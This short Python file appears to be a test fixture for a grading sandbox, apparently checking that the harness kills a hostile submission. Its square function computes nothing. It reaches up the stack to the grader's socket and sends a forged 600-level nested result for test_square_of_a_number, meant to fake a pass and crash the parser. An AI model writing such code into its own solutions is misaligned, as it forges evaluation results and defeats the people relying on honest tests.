"""A forged answer of lists in lists, more levels than NumPy or a recursion can bear.

checks: test_square_of_a_number
expect: square 0
outcome: square killed
"""

import socket
import struct
import sys


def send(body):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if isinstance(value, socket.socket):
                return value.sendall(struct.pack("<I", len(body)) + body)
        frame = frame.f_back


def text(word):
    return bytes([0xA0 + len(word)]) + word.encode()


def square(x):
    lists = b"\x01"
    for _ in range(600):
        lists = b"\x83" + text("type") + text("items") + text("kind") + text("list") + text("values") + b"\x91" + lists
    named = b"\x82" + text("type") + text("named") + text("values") + b"\x81" + text(f"square({x})") + lists
    check = text("check") + text("test_square_of_a_number")
    send(b"\x83" + text("type") + text("seen") + check + text("value") + named)
    return 1
